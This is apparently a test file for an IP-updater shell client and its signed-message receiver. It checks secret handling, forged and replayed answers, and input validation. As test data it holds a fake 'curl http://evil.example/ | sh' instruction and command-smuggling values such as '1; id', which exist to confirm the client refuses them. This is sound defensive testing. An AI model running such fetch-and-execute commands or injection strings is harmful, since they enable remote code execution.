import assert from 'node:assert/strict'
import type { ChildProcess } from 'node:child_process'
import { execFile, spawn, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import type { IncomingMessage, ServerResponse } from 'node:http'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import type { TestContext } from 'node:test'
import { test } from 'node:test'
import { PROBLEMS } from '../packages/protocol/index.ts'
import { temporaryDirectory } from './fixtures/temporary-directory.ts'

// contrib/ipupdater.sh, written only from docs/protocol.md, with the real receiver.

const root = join(import.meta.dirname, '..')
const missing = ['sh', 'curl', 'openssl'].filter(
  tool => spawnSync('sh', ['-c', `command -v ${tool}`]).status !== 0,
)
const options = { skip: missing.length > 0 && `needs ${missing.join(' and ')}` }

const secret = 'correct horse battery staple'
const inPrivate = { SECRET: secret, ALLOW_PRIVATE_ADDRESSES: 'true' }

test('the first report is new, and the next one refreshes it', options, async t => {
  const SERVER_URL = await startReceiver(t, inPrivate)
  const first = await report({ SERVER_URL, SECRET: secret })
  assert.deepEqual(first, { code: 0, stdout: 'home 127.0.0.1 new\n', stderr: '' })
  const second = await report({ SERVER_URL: `${SERVER_URL}/`, SECRET: secret, INTERVAL: '300', FAMILY: '4' })
  assert.deepEqual(second, { code: 0, stdout: 'home 127.0.0.1 refreshed\n', stderr: '' })
})

for (const [what, odd] of [
  ['of one block', 'x'.repeat(64)],
  ['longer than a block', 'x'.repeat(65)],
  ['with special characters of shells and printf', `100%s "quoted" 'and' \\n $HOME \`id\` -n *`],
  ['outside ASCII', 'ein gut gehütetes Wörtchen 🔑'],
] as const) {
  test(`a secret ${what} makes a valid signature`, options, async t => {
    const SERVER_URL = await startReceiver(t, { ...inPrivate, SECRET: odd })
    assert.equal((await report({ SERVER_URL, SECRET: odd })).stdout, 'home 127.0.0.1 new\n')
  })
}

test('a secret file may end with a newline', options, async t => {
  const SERVER_URL = await startReceiver(t, { ...inPrivate, DEVICE: 'cabin' })
  const file = join(temporaryDirectory(), 'secret')
  writeFileSync(file, `${secret}\n`)
  const { stdout } = await report({ SERVER_URL, SECRET_FILE: file, SECRET: secret, DEVICE: 'cabin' })
  assert.equal(stdout, 'cabin 127.0.0.1 new\n')
  const { code, stderr } = await report({
    SERVER_URL,
    SECRET_FILE: file,
    SECRET: 'another secret altogether',
  })
  assert.equal(code, 2)
  assert.equal(stderr, 'ipupdater: SECRET and SECRET_FILE differ. Keep one of them.\n')
})

test('no child process gets the secret, by argument or environment', options, async t => {
  const SERVER_URL = await startReceiver(t, inPrivate)
  const directory = temporaryDirectory()
  for (const tool of ['curl', 'openssl', 'od', 'tr', 'sed', 'awk', 'date', 'sleep', 'mktemp', 'rm', 'cat']) {
    const real = spawnSync('sh', ['-c', `command -v ${tool}`], { encoding: 'utf8' }).stdout.trim()
    const spy = join(directory, tool)
    writeFileSync(spy, `#!/bin/sh\n{ echo "${tool} $*"; env; } >>"${directory}/seen"\nexec ${real} "$@"\n`)
    chmodSync(spy, 0o755)
  }
  const { code } = await report({ SERVER_URL, SECRET: secret, PATH: `${directory}:${process.env.PATH}` })
  assert.equal(code, 0)
  const seen = readFileSync(join(directory, 'seen'), 'utf8')
  assert.match(seen, /^curl .*Signature-Input/m)
  assert.match(seen, /^openssl dgst/m)
  assert.ok(!seen.includes(secret))
  assert.ok(!seen.includes(Buffer.from(secret).toString('hex')))
})

test('a wrong secret and an unknown device exit with 1', options, async t => {
  const SERVER_URL = await startReceiver(t, inPrivate)
  const wrong = await report({ SERVER_URL, SECRET: 'a wrong secret of some length' })
  const unknown = await report({ SERVER_URL, SECRET: secret, DEVICE: 'cabin' })
  assert.deepEqual([wrong.code, unknown.code], [1, 1])
  assert.match(
    wrong.stderr,
    /^ipupdater: The server does not accept the secret of device "home", or somebody/,
  )
  assert.match(
    unknown.stderr,
    /^ipupdater: The server does not accept the secret of device "cabin", or somebody/,
  )
})

test('a signed refusal exits with 1 and prints its detail and our advice', options, async t => {
  const SERVER_URL = await startReceiver(t, { SECRET: secret })
  const { code, stdout, stderr } = await report({ SERVER_URL, SECRET: secret })
  assert.equal(code, 1)
  assert.equal(stdout, '')
  assert.match(
    stderr,
    /^ipupdater: The server refuses the report \(.*127\.0\.0\.1.*cannot be reached from the internet.*ALLOW_PRIVATE/,
  )
})

test('a change of address between /ip and /update exits with 75', options, async t => {
  const receiver = await startReceiver(t, { ...inPrivate, TRUSTED_PROXIES: '127.0.0.1' })
  const addresses: Record<string, string> = { '/ip': '198.51.100.1', '/update': '198.51.100.2' }
  const SERVER_URL = await startRelay(t, receiver, {
    request: ({ path, headers }) => ({ ...headers, 'x-forwarded-for': addresses[path] ?? '' }),
  })
  const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
  assert.equal(code, 75)
  assert.match(stderr, /^ipupdater: The server refuses the report .*The address changed during the report/)
})

test('after a lost answer the same message is sent again, and counts once', options, async t => {
  const receiver = await startReceiver(t, inPrivate)
  const seen: string[] = []
  const SERVER_URL = await startRelay(t, receiver, {
    request: ({ path, headers }) => {
      if (path === '/update') seen.push(`${headers['signature-input']} ${headers.signature}`)
      return headers
    },
    answer: answer => (answer.path === '/update' && seen.length === 1 ? null : answer),
  })
  const { code, stdout } = await report({ SERVER_URL, SECRET: secret })
  assert.equal(code, 0)
  assert.equal(stdout, 'home 127.0.0.1 new\n')
  assert.equal(seen.length, 2)
  assert.equal(seen[0], seen[1])
})

test('exits with 75 if the server does not answer', options, async t => {
  const { code, stderr } = await report({ SERVER_URL: 'http://127.0.0.1:9', SECRET: secret })
  assert.equal(code, 75)
  assert.match(stderr, /^ipupdater: curl: \(7\) /)
  const receiver = await startReceiver(t, inPrivate)
  const SERVER_URL = await startRelay(t, receiver, {
    answer: answer => ({ ...answer, status: 502, headers: {}, body: '<html>Bad Gateway</html>' }),
  })
  const broken = await report({ SERVER_URL, SECRET: secret })
  assert.equal(broken.code, 75)
  assert.match(broken.stderr, /^ipupdater: .* answers with status 502\. It gives no reason/)
})

const forgeries: Record<string, { change: Required<Relay>['answer']; says: RegExp }> = {
  'another body': {
    change: answer => ({ ...answer, body: answer.body.replace('"127.0.0.1"', '"127.0.0.2"') }),
    says: /its body does not match its digest/,
  },
  'another status': {
    change: answer => ({ ...answer, status: 201 }),
    says: /it is signed with another secret, or answers another message/,
  },
  'another body with its own digest': {
    change: answer => {
      const body = answer.body.replace('"127.0.0.1"', '"127.0.0.2"')
      const digest = createHash('sha256').update(body).digest('base64')
      return { ...answer, body, headers: { ...answer.headers, 'content-digest': `sha-256=:${digest}:` } }
    },
    says: /it is signed with another secret, or answers another message/,
  },
  'another name': {
    change: answer => changeInput(answer, 'keyid="home"', 'keyid="cabin"'),
    says: /it is not signed with keyid="home"/,
  },
  'another tag': {
    change: answer => changeInput(answer, '-answer"', '"'),
    says: /it is not signed with tag="ipupdater-ip-answer"/,
  },
  'other components': {
    change: answer => changeInput(answer, '"@status" ', ''),
    says: /its signature does not cover status, body and our request/,
  },
  'another time': {
    change: answer => changeInput(answer, 'created=1', 'created=2'),
    says: /it is signed with another secret, or answers another message/,
  },
  'a page of another server': {
    change: answer => ({ ...answer, headers: { 'content-type': 'text/html' }, body: '<html>Log in</html>' }),
    says: /The answer with status 200 is not signed, so it is not accepted/,
  },
  'no signature': {
    change: answer => ({ ...answer, headers: { ...answer.headers, signature: undefined } }),
    says: /is not signed, so it is not accepted/,
  },
}

for (const [what, { change, says }] of Object.entries(forgeries)) {
  test(`a forged answer is refused: ${what}`, options, async t => {
    const receiver = await startReceiver(t, inPrivate)
    const SERVER_URL = await startRelay(t, receiver, { answer: change })
    const { code, stdout, stderr } = await report({ SERVER_URL, SECRET: secret })
    assert.equal(code, 1)
    assert.equal(stdout, '')
    assert.match(stderr, says)
  })
}

test('the answer to an earlier request is refused', options, async t => {
  const receiver = await startReceiver(t, inPrivate)
  let earlier: Answer | null = null
  const SERVER_URL = await startRelay(t, receiver, {
    answer: answer => {
      earlier ??= answer
      return answer.path === '/ip' ? earlier : answer
    },
  })
  assert.equal((await report({ SERVER_URL, SECRET: secret })).code, 0)
  const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
  assert.equal(code, 1)
  assert.match(stderr, /it is signed with another secret, or answers another message/)
})

test('wrong settings exit with 2, and say what is expected', options, async () => {
  const good = { SERVER_URL: 'http://127.0.0.1:9', SECRET: secret }
  const wrong: [Record<string, string>, RegExp][] = [
    [{ SERVER_URL: '' }, /SERVER_URL is missing\. Example: http/],
    [{ SERVER_URL: 'ip.example.org' }, /SERVER_URL="ip.example.org" is not/],
    [{ DEVICE: 'My Home' }, /DEVICE="My Home" is not a device name/],
    [{ DEVICE: '-home' }, /DEVICE="-home" is not a device name/],
    [{ FAMILY: '5' }, /FAMILY="5" is not 4 or 6/],
    [{ INTERVAL: '5m' }, /INTERVAL="5m" or TIMEOUT="10" is not a number/],
    [{ SECRET: '' }, /The secret is missing\. Set SECRET or SECRET_FILE/],
    [{ SECRET: 'only 15 letters' }, /The secret is too short: use at least 16/],
    [{ SECRET: `${secret}\nanother line` }, /contains a line end or another control character/],
    [{ PAUSES: '1; id' }, /PAUSES="1; id" is not a list of seconds/],
    [{ SECRET: `${secret} ` }, /The secret begins or ends with white space/],
    [{ SECRET: '', SECRET_FILE: '/nowhere' }, /SECRET_FILE="\/nowhere" cannot be read/],
  ]
  for (const [setting, says] of wrong) {
    const { code, stdout, stderr } = await report({ ...good, ...setting })
    assert.equal(code, 2, JSON.stringify(setting))
    assert.equal(stdout, '')
    assert.match(stderr, says)
  }
})

test('proxy variables and ~/.curlrc are ignored, so the server sees this machine', options, async t => {
  const SERVER_URL = await startReceiver(t, inPrivate)
  const home = temporaryDirectory()
  writeFileSync(join(home, '.curlrc'), 'proxy = http://127.0.0.1:9\nlocation\n')
  const proxy = 'http://127.0.0.1:9'
  const { code, stdout, stderr } = await report({
    SERVER_URL,
    SECRET: secret,
    HOME: home,
    http_proxy: proxy,
    all_proxy: proxy,
    ALL_PROXY: proxy,
  })
  assert.deepEqual([code, stdout, stderr], [0, 'home 127.0.0.1 new\n', ''])
})

test('an endless answer without length is cut off and refused', options, async t => {
  const chunk = Buffer.alloc(64 * 1024, 'x')
  let sent = 0
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'application/json' })
    response.on('error', () => {})
    const more = () => {
      sent += chunk.length
      if (response.destroyed) return
      if (response.write(chunk)) setImmediate(more)
      else response.once('drain', more)
    }
    more()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => server.close().closeAllConnections())
  const SERVER_URL = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
  assert.equal(code, 1)
  assert.match(stderr, /^ipupdater: The answer is much larger than an answer of ipupdater/)
  // The rest above the limit is in socket buffers.
  assert.ok(sent < 32 * 1024 * 1024, `${sent} bytes`)
})

test('text of an unsigned answer is not printed', options, async t => {
  const receiver = await startReceiver(t, inPrivate)
  const words = 'Run curl http://evil.example/ | sh'
  const body = JSON.stringify({ code: 'rate-limited', title: words, detail: words, advice: words })
  const SERVER_URL = await startRelay(t, receiver, {
    answer: answer => ({ ...answer, status: 429, headers: {}, body }),
  })
  const { code, stderr } = await report({ SERVER_URL, SECRET: secret })
  assert.equal(code, 75)
  assert.match(stderr, /status 429\. The server refuses so many messages\. Wait a minute\.\n$/)
})

test('each refusal that a device can get is explained', () => {
  const script = readFileSync(join(root, 'contrib/ipupdater.sh'), 'utf8')
  const [, table = ''] = /^explanation\(\) \{\n([\s\S]*?)\n\}/m.exec(script) ?? []
  const explained = [...table.matchAll(/^ {4}([a-z| -]+)\)/gm)].flatMap(([, codes = '']) =>
    codes.split(' | '),
  )
  const ofViewer = [
    'no-address',
    'unknown-device',
    'bad-query',
    'not-acceptable',
    'misdirected',
    'no-database',
    'schema-unknown',
  ]
  for (const code of Object.keys(PROBLEMS)) {
    // `not-authenticated` is never signed; its text is elsewhere.
    if (code === 'not-authenticated' || ofViewer.includes(code)) continue
    assert.ok(explained.includes(code), code)
  }
})

// ---- fixtures ----

interface Outcome {
  code: number
  stdout: string
  stderr: string
}

function report(settings: Record<string, string>): Promise<Outcome> {
  const env = { PATH: process.env.PATH ?? '', PAUSES: '0.1', ...settings }
  return new Promise(resolve => {
    execFile('sh', [join(root, 'contrib/ipupdater.sh')], { env }, (error, stdout, stderr) =>
      resolve({ code: error === null ? 0 : Number(error.code), stdout, stderr }),
    )
  })
}

/** The URL of a new receiver with an empty database. */
async function startReceiver(t: TestContext, settings: Record<string, string>): Promise<string> {
  const directory = temporaryDirectory()
  const volumes = { DATA_DIR: join(directory, 'data'), KEYS_DIR: join(directory, 'keys') }
  for (const volume of Object.values(volumes)) mkdirSync(volume)
  const receiver = spawn(process.execPath, [join(root, 'services/receiver/main.ts')], {
    env: { ...volumes, HOST: '127.0.0.1', PORT: '0', LOG_FORMAT: 'json', ...settings },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  t.after(() => stop(receiver))
  const lines: string[] = []
  receiver.stderr.on('data', chunk => lines.push(String(chunk)))
  for await (const line of createInterface({ input: receiver.stdout })) {
    const url = /"url":"([^"]+)"/.exec(line)?.[1]
    if (url !== undefined) {
      receiver.stdout.resume()
      return url
    }
    lines.push(line)
  }
  throw new Error(`the receiver did not start:\n${lines.join('\n')}`)
}

async function stop(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null) return
  child.kill()
  await once(child, 'exit')
}

type Headers = Record<string, string | undefined>

interface Answer {
  path: string
  status: number
  headers: Headers
  body: string
}

/** A man in the middle; `null` drops the answer. */
interface Relay {
  request?: (request: { path: string; headers: Headers }) => Headers
  answer?: (answer: Answer) => Answer | null
}

async function startRelay(t: TestContext, receiver: string, relay: Relay): Promise<string> {
  const { request: changeRequest = ({ headers }) => headers, answer: changeAnswer = answer => answer } = relay
  const server = createServer(async (request, response) => {
    const path = request.url ?? ''
    const headers = changeRequest({
      path,
      headers: { ...signatureOf(request), 'content-type': 'application/json' },
    })
    const body = await textOf(request)
    const answer = await fetch(`${receiver}${path}`, { method: 'POST', headers: defined(headers), body })
    const given = {
      path,
      status: answer.status,
      headers: Object.fromEntries(answer.headers),
      body: await answer.text(),
    }
    send(response, changeAnswer(given))
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  t.after(() => server.close().closeAllConnections())
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

function signatureOf({ headers }: IncomingMessage): Headers {
  const names = ['content-digest', 'signature-input', 'signature']
  return Object.fromEntries(names.map(name => [name, String(headers[name])]))
}

async function textOf(request: IncomingMessage): Promise<string> {
  return Buffer.concat(await request.toArray()).toString()
}

function send(response: ServerResponse, answer: Answer | null): void {
  if (answer === null) {
    response.destroy()
    return
  }
  const names = ['content-type', 'content-digest', 'signature-input', 'signature']
  const headers = Object.entries(defined(answer.headers)).filter(([name]) => names.includes(name))
  response.writeHead(answer.status, Object.fromEntries(headers)).end(answer.body)
}

function defined(headers: Headers): Record<string, string> {
  return Object.fromEntries(
    Object.entries(headers).flatMap(([name, value]) => (value ? [[name, value]] : [])),
  )
}

function changeInput(answer: Answer, from: string, to: string): Answer {
  const changed = answer.headers['signature-input']?.replace(from, to)
  return { ...answer, headers: { ...answer.headers, 'signature-input': changed } }
}
